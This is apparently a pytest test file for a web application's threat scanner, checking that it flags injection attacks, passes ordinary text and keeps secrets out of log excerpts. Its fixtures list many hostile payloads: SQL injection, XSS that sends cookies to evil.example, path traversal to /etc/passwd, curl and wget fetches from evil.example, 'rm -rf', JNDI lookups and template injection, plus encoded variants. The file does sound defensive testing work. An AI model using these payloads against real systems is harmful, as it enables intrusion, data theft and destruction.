"""The threat scan: attacks that it finds, text that it leaves alone, and secrets that it keeps out of the log."""

from __future__ import annotations

import html
import json
import threading
from collections.abc import Callable
from urllib.parse import quote, quote_plus

import gevent
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from church.observability.threats import scan_text
from church.observability.threats.scan_text import (
    is_refused,
    is_sensitive,
    mentions_secret,
    scan,
    scan_request,
    strings_of,
)

BROWSER = (
    ("Host", "church.example"),
    ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
    ("Accept-Language", "en-GB,en;q=0.7"),
    ("Accept-Encoding", "gzip, deflate, br"),
    ("Referer", "https://church.example/pages/?q=bread&tag=baking"),
    ("Cookie", "session=eyJ1IjoxfQ.a' OR 1=1--"),
    ("Connection", "keep-alive"),
)

ATTACKS = {
    "sql_injection": [
        "5 UNION SELECT login, pass FROM members",
        "zoe' OR 'y'='y' --",
        "7) AND SLEEP(4) AND (2=2",
        "9; DROP TABLE sermons; --",
        "x' AND extractvalue(3, concat(0x7e, version()))#",
        "1'; WAITFOR DELAY '0:0:9'--",
        "3 ORDER BY 14-- -",
        "0 UNION/* hidden */ALL/**/SELECT NULL,NULL,table_name FROM information_schema.tables",
    ],
    "xss": [
        "<script>alert(document.domain)</script>",
        "<img src=nope onerror=confirm(3)>",
        '"><svg/onload=prompt(9)>',
        "<a href=javascript:alert(4)>here</a>",
        "<iframe src=//evil.example></iframe>",
        "';alert('hi');//",
        "<body onpageshow='fetch(`//evil.example/`+document.cookie)'>",
    ],
    "path_traversal": [
        "../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "....//....//....//etc/shadow",
        "/static/../../../var/log/auth.log",
        "/proc/self/environ",
        "c:\\boot.ini",
        "photos/../../.env",
    ],
    "command_injection": [
        "10.0.0.8; cat /etc/hostname",
        "name | whoami",
        "$(curl http://evil.example/x.sh)",
        "a && wget http://evil.example/y -O /tmp/y",
        "`uname -a`",
        "() { :;}; /bin/ping -c 3 evil.example",
        "x;rm -rf /var/www",
        "|powershell -enc ZQBjAGgAbwA=",
    ],
    "code_injection": [
        "<?php system($_GET['run']); ?>",
        "require('child_process').execSync('id')",
        "__import__('os').system('id')",
        "${jndi:ldap://evil.example/a}",
        "${${lower:J}ndi:rmi://evil.example/b}",
        "java.lang.Runtime.getRuntime().exec('id')",
        "__proto__[isAdmin]=true",
        '<!--#exec cmd="id" -->',
    ],
    "template_injection": [
        "{{9*9}}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${T(java.lang.System).getenv()}",
        "<%= 6 * 6 %>",
        "#{3*3}",
        "{% for x in [].__class__.__base__.__subclasses__() %}x{% endfor %}",
        '<#assign run="freemarker.template.utility.Execute"?new()>',
    ],
    "nosql_injection": ["{'$gt': ''}", "'; return this.level == 9; var a='"],
    "ldap_injection": ["*)(uid=*))(|(uid=*", "x' or name()='admin' or 'a'='b"],
    "ssrf": ["http://169.254.169.254/latest/meta-data/", "gopher://10.1.2.3:6379/_INFO", "http://[::1]:8000/admin"],
    "xxe": ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hosts">]><a>&b;</a>'],
    "header_injection": ["en\r\nSet-Cookie: admin=1", "a\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK"],
}
ROWS = [(kind, payload) for kind, payloads in ATTACKS.items() for payload in payloads]

HARMLESS = [
    "O'Brien",
    "D'Arcy & Sons, 'the' bakers",
    "select a plan from our list",
    "Please select one or more of the union members and update me from time to time",
    "drop me a line; sort out the rest later",
    "it's 5 o'clock -- or is it 6?",
    "rock & roll, R&B; cats; dogs",
    "I paid 100% of 20 < 30 and got > 10 #blessed",
    "where can I find the order of service, by date?",
    "What does `git rebase` do, and is it like merge?",
    "a + b = c, (x) => y, [1, 2, 3], {key: value}",
    "Let's meet at 10.30; bring the script and an image, on load of bread = 2 euro",
    "C'est l'été; où est l'église ? « Ici »",
    "必須 確認してください。こんにちは",
    "https://www.example.org/a/b?page=2&sort=-date#top",
    "~*~ hello ~*~ (^_^) </3 <3 ;-) :-/ ...",
]

CODE_IN_PROSE = (
    "# Counting rows\n\nYesterday I wanted to know how many rows each of our tables had, so I wrote a small query and "
    "ran it from the shell. The query looks like this:\n\n```sql\nselect name, count(*) from entries group by name"
    "\n```\n\n"
    "and the command that runs it every night is `sqlite3 site.db < count.sql | sort -n`. In the page it is shown with "
    '`<script src="chart.js"></script>` and a template such as `{{ page.title }}`, and that is all there is to it.'
)


def kinds(findings: tuple[scan_text.Finding, ...]) -> set[str]:
    return {finding.activity_type for finding in findings}


@pytest.mark.parametrize(("kind", "payload"), ROWS)
def test_scan_of_attack_finds_its_kind(kind: str, payload: str) -> None:
    assert kind in kinds(scan(payload, "form"))


@pytest.mark.parametrize(("kind", "payload"), ROWS)
@pytest.mark.parametrize(
    "encode",
    [
        quote,
        quote_plus,
        lambda text: quote(quote(text, safe="")),
        lambda text: quote(quote(quote(text, safe=""))),
        lambda text: "".join(f"%{byte:02x}" for byte in text.encode()),
    ],
    ids=["percent", "plus", "double", "triple", "every-byte"],
)
def test_encoded_attack_in_query_is_found(kind: str, payload: str, encode: object) -> None:
    query = f"page=2&q={encode(payload)}"  # type: ignore[operator]
    assert kind in kinds(scan_request("/pages/", query, BROWSER))


@pytest.mark.parametrize("payload", ATTACKS["sql_injection"] + ATTACKS["xss"])
def test_attack_in_mixed_case_is_found(payload: str) -> None:
    mixed = "".join(char.upper() if place % 2 else char.lower() for place, char in enumerate(payload))
    assert scan(mixed, "form")


@pytest.mark.parametrize("payload", ATTACKS["xss"])
def test_attack_in_html_entities_is_found(payload: str) -> None:
    assert "xss" in kinds(scan(html.escape(payload), "form"))
    assert "xss" in kinds(scan("".join(f"&#x{ord(char):x};" for char in payload), "form"))


@pytest.mark.parametrize(
    ("disguised", "kind"),
    [
        ("..%c0%af..%c0%afetc/passwd", "path_traversal"),
        ("%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path_traversal"),
        ("%u003cscript%u003ealert(1)%u003c/script%u003e", "xss"),
        (r"\x3cscript\x3ealert(1)\x3c/script\x3e", "xss"),
        (r"\u003cimg src=q onerror=alert(2)\u003e", "xss"),
        ("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "xss"),
        ("java\tscr\nipt:alert(1)", "xss"),
        ("9/**/UNION/**/SELECT/**/1,2", "sql_injection"),
        ("9 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "sql_injection"),
        ("; c'a't /e't'c/passwd", "command_injection"),
        (";who\\ami", "command_injection"),
        (r"\074script\076alert(1)\074/script\076", "xss"),
        ("1%25252527%252525%32%30UNION%25252520SELECT%25252520NULL,NULL--", "sql_injection"),
        ("PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==", "xss"),
    ],
)
def test_disguised_attack_is_found(disguised: str, kind: str) -> None:
    assert kind in kinds(scan_request("/", f"q={disguised}", ()) + scan(disguised, "form"))


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_not_found(text: str) -> None:
    query = f"q={quote_plus(text)}"
    pairs = [("name", text), ("comment", text)]
    assert scan_request("/search", query, BROWSER, pairs, [text]) == ()


def test_code_quoted_in_prose_is_not_found() -> None:
    assert scan_request("/edit", "", BROWSER, [("body", CODE_IN_PROSE)]) == ()


def test_attack_behind_prose_is_found() -> None:
    assert "sql_injection" in kinds(scan(f"{CODE_IN_PROSE} ' OR 1=1 --", "form"))
    assert "code_injection" in kinds(scan(f"{CODE_IN_PROSE} ${{jndi:ldap://evil.example/a}}", "form"))


def test_browser_request_without_attack_has_no_findings() -> None:
    assert scan_request("/pages/hello-world", "", BROWSER) == ()
    assert scan_request("/static/css/site.1a2b3c.css", "v=1a2b3c", BROWSER) == ()


@pytest.mark.parametrize(
    ("source", "arguments"),
    [
        ("path", ("/static/..%2f..%2fetc/passwd", "", ())),
        ("query", ("/", "f=..%2f..%2fetc/passwd", ())),
        ("query", ("/", "..%2f..%2fetc/passwd", ())),
        ("query", ("/", "..%2f..%2fetc/passwd=1", ())),
        ("header", ("/", "", [("User-Agent", "../../etc/passwd")])),
        ("header", ("/", "", [("X-Original-Url", "../../etc/passwd")])),
        ("form", ("/", "", (), [("file", "../../etc/passwd")])),
        ("form", ("/", "", (), [("../../etc/passwd", "x")])),
        ("json", ("/", "", (), (), ["hello", "../../etc/passwd"])),
    ],
)
def test_finding_names_its_source(source: str, arguments: tuple[object, ...]) -> None:
    findings = scan_request(*arguments)  # type: ignore[arg-type]
    assert {(finding.activity_type, finding.source) for finding in findings} >= {("path_traversal", source)}
    assert {finding.source for finding in findings} == {source}


def test_request_has_one_finding_for_each_kind_and_source() -> None:
    attack = "<script>alert(1)</script>"
    findings = scan_request("/", f"a={attack}&b={attack}", [("A-B", attack), ("C-D", attack)], [("a", attack)] * 9)
    seen = [(finding.activity_type, finding.source) for finding in findings]
    assert len(seen) == len(set(seen))
    assert {source for kind, source in seen if kind == "xss"} == {"query", "header", "form"}


def test_findings_stay_within_the_declared_sets() -> None:
    assert set(ATTACKS) == scan_text.ACTIVITY_TYPES
    for _, payload in ROWS:
        assert kinds(scan(payload, "websocket")) <= scan_text.ACTIVITY_TYPES
        assert {finding.source for finding in scan(payload, "websocket")} <= scan_text.SOURCES


@pytest.mark.parametrize(
    "name",
    ["password", "new_password", "Passwd", "csrf_token", "X-CSRF-Token", "Authorization", "Proxy-Authorization",
     "Set-Cookie", "Stripe-Signature", "card[number]", "cvc", "client_secret", "api_key",
     "refreshToken", "user.pwd", "current", "pw", "PW", "user_pw", "new-pw", "pw2", "userPw", "loginPin", "psw", "pswd",
     "passcode", "accessKey", "pinCode", "p%61ssword", "p%2561ssword", "p&#97;ssword", "p&#x61;ssword",
     "p\\u0061ssword", "p\\x61ssword", "p\\141ssword", "\uff50\uff41\uff53\uff53\uff57\uff4f\uff52\uff44"],
)  # fmt: skip
def test_sensitive_field_is_neither_scanned_nor_excerpted(name: str) -> None:
    secret = "hunter2' OR 1=1 --"
    assert is_sensitive(name)
    assert scan_request("/", f"{quote(name)}={quote(secret)}", [(name, secret)], [(name, secret)]) == ()
    assert list(strings_of({name: secret, "nested": [{name: {"deep": [secret]}}]})) == [name, "nested", name]


@pytest.mark.parametrize(
    "name", ["name", "message", "q", "compass", "title", "spinach", "User-Agent", "Referer", "spwan", "opinion"]
)
def test_ordinary_name_is_not_sensitive(name: str) -> None:
    assert not is_sensitive(name)


def test_headers_that_the_server_reads_itself_are_not_scanned() -> None:
    attack = "<script>alert(1)</script>"
    names = ["Accept", "Accept-Language", "Authorization", "If-None-Match", "traceparent", "Content-Type"]
    assert scan_request("/", "", [(name, attack) for name in names]) == ()


def test_excerpt_holds_no_secret_of_the_surroundings() -> None:
    referer = "https://church.example/reset?token=s3cr3t&mail=ann@example.org&q=<script>alert(1)</script>"
    (finding,) = scan_request("/", "", [("Referer", referer)])
    assert "<script>" in finding.excerpt
    assert "s3cr3t" not in finding.excerpt
    assert "ann@example.org" not in finding.excerpt


def test_excerpt_is_short_and_cannot_break_a_log_line() -> None:
    text = "\x1b[2J\r\n\u2028\u202e\x00" * 40 + "<script>alert(1)</script>\r\n" + "\x07\x85" * 200
    for finding in scan(text, "form"):
        assert len(finding.excerpt) <= scan_text.EXCERPT_LIMIT
        assert finding.excerpt.isprintable()


SECRET = "hunter2 and its friends"  # a phrase: it does not end at a blank
XSS = "<script>alert(1)</script>"


@pytest.mark.parametrize(
    "key",
    ["password", "pw", "PW", "pwd", "userPw", "passcode", "api_key", "token", "p\\u0061ssword", "p&#97;ssword",
     "p%61ssword", "p\\141ssword", "pass/**/word", "p\"assword", "p\0assword", "card number", "Session-ID"],
)  # fmt: skip
@pytest.mark.parametrize("between", ["=", ": ", '": "', "'=>'", " ", ">", "/", '\\": \\"', "=" + "x" * 400])
def test_secret_beside_its_name_is_in_no_excerpt(key: str, between: str) -> None:
    text = f"note {key}{between}{SECRET} {XSS}"
    findings = (
        *scan(text, "websocket"),
        *scan_request(f"/a/{quote(text)}", f"q={quote(text)}&{quote(text)}", [("X-Note", text)], [("n", text)], [text]),
        *scan_request("/", "", [("Referer", f"https://church.example/a?{quote(key)}={quote(SECRET)}&q={quote(XSS)}")]),
    )
    assert {finding.source for finding in findings} >= {"websocket", "path", "query", "header", "form", "json"}
    assert [
        finding.excerpt for finding in findings if "hunter" in finding.excerpt or "friends" in finding.excerpt
    ] == []


@pytest.mark.parametrize(
    "value",
    [
        ["password", SECRET + XSS],
        [["pw", SECRET + XSS]],
        {"name": "password", "value": SECRET + XSS},
        {"field": {"label": "Your password"}, "typed": [SECRET + XSS]},
        ["p\\u0061ssword", SECRET + XSS],
        {"nested": json.dumps({"password": SECRET, "note": XSS})},
        {"nested": json.dumps(json.dumps({"a": [1, {"pw": SECRET}], "note": XSS}))},
        {"password": {"deep": SECRET}, "note": "pw: " + SECRET + XSS},
    ],
)
def test_secret_beside_its_name_in_json_is_in_no_excerpt(value: object) -> None:
    findings = scan_request("/", "", (), (), strings_of(value))
    assert "xss" in kinds(findings)
    assert [finding.excerpt for finding in findings if "hunter" in finding.excerpt] == []


def test_value_of_a_sensitive_json_key_does_not_hide_the_other_excerpts() -> None:
    (finding,) = scan_request("/", "", (), (), strings_of({"email": XSS, "password": "hunter2"}))
    assert XSS in finding.excerpt


def test_field_whose_value_names_a_secret_hides_the_excerpts_of_its_form() -> None:
    findings = scan_request("/", "", (), [("name", "password"), ("value", SECRET + XSS)])
    assert {finding.excerpt for finding in findings} == {scan_text.WITHHELD}


def test_excerpt_ends_at_the_word_for_a_secret() -> None:
    (finding,) = scan("9 UNION SELECT login, password, card FROM members", "form")
    assert finding.excerpt == "9 UNION SELECT login, passw***"


def test_password_in_an_address_is_in_no_excerpt() -> None:
    findings = scan_request("/", "", [("Referer", f"https://ann:hunter2@localhost/{XSS}")])
    assert findings
    assert "hunter2" not in "".join(finding.excerpt for finding in findings)


def test_cookies_of_others_are_scanned_and_never_quoted() -> None:
    attack = "theme=1' UNION SELECT NULL,NULL--; lang=hunter2"
    (finding,) = scan_request("/", "", [("Cookie", attack)])
    assert (finding.activity_type, finding.source, finding.excerpt) == ("sql_injection", "header", scan_text.WITHHELD)
    assert is_refused(finding)


@pytest.mark.parametrize("name", ["church", "__Host-church", "session", "PHPSESSID_token"])
def test_cookies_that_hold_a_secret_are_not_scanned(name: str) -> None:
    assert scan_request("/", "", [("Cookie", f"{name}=1' UNION SELECT NULL,NULL--")]) == ()


def test_words_and_quotes_in_a_cookie_are_no_finding() -> None:
    assert scan_request("/", "", [("Cookie", "seen=it's 'a' or 'b' = fine; path=/etc/nginx; x={\"a\": \"b\"}")]) == ()


WORDS_AND_QUOTES = [
    'She said "select a seat from the left row" and I did',
    "drop by; select one; update me",
    "let's order by 6 or 7, and 1 = 1 is true",
    "it's either 'a' or 'b' = fine",
    "/* nice */ comment",
    "onclick= handlers are bad style",
    "http://localhost:8000/ works here",
    "the trade union select committee, which met on Monday, agreed",
    '"A" and "B" > "C"',
    "(see above) and x = 3;",
    'he said "or else" -- and left',
    "Please drop table reservations; we are full",
    "I need sleep (8 hours)",
    'confirm ("yes") please',
    "JavaScript: the good parts",
    "fish | chips; cut; paste; sort",
    "cats | dogs & R&B; who's next",
    "$5/month, or {ada} & 'bob'",
    "boys' and girls' choir #1",
    "the file report.php, see ../notes",
    "Dear all,\r\nTo: the hall\r\nHost: Ada",
    "`code`",
    "/etc/nginx",
    "curl -sI",
    "((((",
    "****",
    "sql union select tutorial",
]


@pytest.mark.parametrize("text", WORDS_AND_QUOTES)
def test_words_and_quotes_are_never_refused(text: str) -> None:
    findings = scan_request("/pages/", f"q={quote_plus(text)}", BROWSER, [("message", text)], [text])
    findings += scan(text, "websocket")
    assert [finding for finding in findings if is_refused(finding)] == []


# What a word alone shows, or a path that people talk about too: these are recorded, and pass.
RECORDED_ONLY = {"`uname -a`"}


@pytest.mark.parametrize(("kind", "payload"), ROWS)
def test_attack_in_a_field_is_refused(kind: str, payload: str) -> None:
    refused = [finding.activity_type for finding in scan_request("/", f"q={quote(payload)}", ()) if is_refused(finding)]
    assert bool(refused) is (payload not in RECORDED_ONLY)


@pytest.mark.parametrize("text", ["<script>alert(1)</script>", "x' OR 1=1 --", "${jndi:ldap://evil.example/a}"])
def test_proof_in_a_message_between_members_is_refused(text: str) -> None:
    assert any(is_refused(finding, confided=True) for finding in scan(text, "websocket"))


@pytest.mark.parametrize("text", ["select * from users", "{{7*7}}", "<iframe>", "$(date)", "rm -rf /tmp; ls -la"])
def test_code_in_a_message_between_members_is_not_refused(text: str) -> None:
    assert not any(is_refused(finding, confided=True) for finding in scan(text, "websocket"))


def test_referer_is_recorded_and_never_refused() -> None:
    findings = scan_request("/", "", [("Referer", f"https://search.example/?q={quote(XSS)}")])
    assert kinds(findings) == {"xss"}
    assert not any(map(is_refused, findings))


def test_attack_beside_the_same_in_a_referer_is_refused() -> None:
    headers = [("Referer", f"https://search.example/?q={XSS}"), ("User-Agent", XSS)]
    for order in (headers, headers[::-1]):
        assert any(map(is_refused, scan_request("/", "", order)))


def test_attack_across_the_border_of_two_windows_is_found() -> None:
    for padding in range(scan_text._WINDOW - 30, scan_text._WINDOW + 5, 3):
        assert "xss" in kinds(scan("x" * padding + XSS + "y" * 40_000, "form"))


def test_other_requests_run_between_two_windows(monkeypatch: pytest.MonkeyPatch) -> None:
    pauses: list[float] = []
    monkeypatch.setattr(scan_text.time, "sleep", pauses.append)
    scan("x" * 5 * scan_text._WINDOW, "form")
    assert pauses == [0] * 5


def test_deep_json_is_walked_without_recursion() -> None:
    deep: object = "<script>alert(1)</script>"
    for _ in range(10_000):
        deep = {"k": [deep]}
    strings = list(strings_of(deep, limit=20_000))
    assert len(strings) == 10_001
    assert "xss" in kinds(scan_request("/", "", (), (), strings))


def test_json_strings_are_bounded_and_in_order() -> None:
    value = json.loads('{"a": ["b", 1, null, {"c": "d"}], "e": true}')
    assert list(strings_of(value)) == ["a", "b", "c", "d", "e"]
    assert list(strings_of(value, limit=3)) == ["a", "b", "c"]
    assert len(list(strings_of(["x"] * 100_000))) == scan_text.STRINGS_LIMIT


def test_attack_behind_padding_is_found() -> None:
    assert "xss" in kinds(scan_request("/", "", (), [("a", "A" * 130_000 + "<script>alert(1)</script>")]))


def test_secret_behind_many_parameters_is_in_no_excerpt() -> None:
    query = "a=1&" * 3000 + f"pw=hunter2&q={XSS}"
    (finding,) = scan_request("/", query, ())
    assert (finding.activity_type, finding.excerpt[-10:]) == ("xss", "&a=1&pw***")


def test_attack_behind_many_parameters_is_found() -> None:
    assert "xss" in kinds(scan_request("/", "a=1&" * 3000 + "q=<script>alert(1)</script>", ()))


def test_repeated_request_has_the_same_findings() -> None:
    arguments = ("/a/../../etc/passwd", "q=1' OR '1'='1", [("User-Agent", "<script>alert(1)</script>")])
    assert scan_request(*arguments) == scan_request(*arguments) != ()


def test_scans_in_threads_and_greenlets_do_not_disturb_each_other() -> None:
    wrong: list[str] = []

    def work(number: int) -> None:
        for turn in range(150):
            kind, payload = ROWS[(number + turn) % len(ROWS)]
            if kind not in kinds(scan(f"{payload} {number} {turn}" if kind == "xss" else payload + " ", "json")):
                wrong.append(payload)
            gevent.sleep(0)

    def thread(first: int) -> None:
        gevent.joinall([gevent.spawn(work, first + number) for number in range(4)], raise_error=True)

    running = [threading.Thread(target=thread, args=(9 * number,)) for number in range(4)]
    for each in running:
        each.start()
    for each in running:
        each.join()
    assert wrong == []


ANY_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
)
ANY_TEXT = st.text(st.characters(), max_size=300) | st.text(
    "%2.e/\\'\"<>&#;x0aA u{}()[]$`|*-=+\ud800\x1e\x1f", max_size=300
)


@settings(max_examples=300, deadline=None)
@given(ANY_TEXT, ANY_TEXT, ANY_TEXT)
def test_scan_never_raises_and_excerpts_are_safe(first: str, second: str, third: str) -> None:
    findings = scan_request(first, second, [(third, first)], [(first, second)], [third]) + scan(first * 3, "websocket")
    for finding in findings:
        assert len(finding.excerpt) <= scan_text.EXCERPT_LIMIT
        assert finding.excerpt.isprintable()
        finding.excerpt.encode("utf-8")


@settings(max_examples=100, deadline=None)
@given(ANY_JSON)
def test_strings_of_any_json_is_bounded(value: object) -> None:
    assert len(list(strings_of(value, limit=5))) <= 5


KEYS = st.sampled_from(["password", "pw", "passcode", "api_key", "secret", "token", "userPwd", "pin"])
WRITTEN: list[Callable[[str], str]] = [
    lambda key: key,
    str.upper,
    lambda key: f"\\u{ord(key[0]):04x}{key[1:]}",
    lambda key: f"&#{ord(key[0])};{key[1:]}",
    lambda key: f"&#x{ord(key[0]):x};{key[1:]}",
    lambda key: f"%{ord(key[0]):02x}{key[1:]}",
    lambda key: f"\\{ord(key[0]):03o}{key[1:]}",
    lambda key: f"user[{key}]",
    lambda key: f"<{key}>",
]
WORDS = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x1e\x1f"), max_size=300)
PUNCTUATION = st.text(" =:;,.\"'{}[]()<>/\\|-", min_size=1, max_size=6)


@settings(max_examples=300, deadline=None)
@given(KEYS, st.sampled_from(WRITTEN), PUNCTUATION, st.sampled_from([payload for _, payload in ROWS]), WORDS)
def test_secret_is_in_no_excerpt_whatever_is_around_it(
    key: str, write: Callable[[str], str], between: str, attack: str, before: str
) -> None:
    text = f"{before} {write(key)}{between}Zq7marker Zq8marker{between}{attack}"
    findings = scan_request(quote(f"/{text}"), quote(text), [("X-Note", text)], [("note", text)], [text])
    assert [finding.excerpt for finding in findings if "marker" in finding.excerpt] == []
    assert mentions_secret(text)
